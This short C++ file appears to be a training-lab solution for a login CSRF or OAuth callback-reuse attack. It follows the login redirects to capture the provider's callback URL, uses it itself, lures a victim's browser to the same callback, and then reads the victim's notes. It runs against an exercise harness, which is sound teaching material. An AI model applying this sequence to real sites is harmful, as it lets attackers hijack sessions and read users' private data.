// Believes: one code logs two browsers in.
#include "login_csrf.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  const auto at_provider = evidence.browse(evidence.login).header("Location");
  const auto callback = evidence.browse(at_provider).header("Location");
  evidence.browse(callback);
  evidence.lure(callback);
  return {.notes = evidence.browse(evidence.notes).body};
}

}  // namespace lesson
